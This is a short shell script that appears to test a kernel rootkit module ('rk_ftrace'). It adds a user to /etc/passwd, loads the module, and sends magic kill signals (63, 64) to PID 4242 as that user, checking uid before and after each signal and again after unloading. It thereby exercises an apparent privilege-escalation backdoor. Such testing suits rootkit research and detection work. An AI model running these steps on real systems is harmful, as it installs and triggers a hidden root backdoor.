echo "u:x:1000:1000::/:/bin/sh" >> /etc/passwd
echo "u:x:1000:" >> /etc/group
mark "insmod rk_ftrace"
insmod /mods/rk_ftrace.ko; echo "rc=$?"
mark "kill as uid 1000"
su u -c 'id -u; kill -63 4242; echo "kill rc=$?"; id -u; kill -64 4242; echo "kill rc=$?"; id -u'
mark "rmmod rk_ftrace"
rmmod rk_ftrace; echo "rmmod rc=$?"
mark "kill after rmmod"
su u -c 'kill -64 4242; echo "kill rc=$?"; id -u'
